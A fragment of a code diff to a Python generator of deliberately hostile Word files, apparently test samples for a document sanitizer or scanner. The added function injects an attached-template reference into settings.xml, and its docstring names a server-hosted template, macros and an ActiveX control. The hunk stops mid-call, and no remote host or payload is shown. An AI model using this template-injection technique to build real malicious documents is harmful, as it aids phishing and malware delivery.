@@ -70,6 +70,11 @@ def hostile(parts):
         "<w:r><w:t>صورة</w:t></w:r></w:fldSimple></w:p>"
     )
     parts[header] = parts[header].replace(b"</w:hdr>", linked.encode() + b"</w:hdr>")
+    attach_template_and_macros(parts)
+
+
+def attach_template_and_macros(parts):
+    """An attached template on a server, a macro project, an ActiveX control, comments."""
     settings = parts["word/settings.xml"]
     parts["word/settings.xml"] = re.sub(
         rb"(<w:settings[^>]*>)", rb'\1<w:attachedTemplate r:id="rIdT"/>', settings, count=1
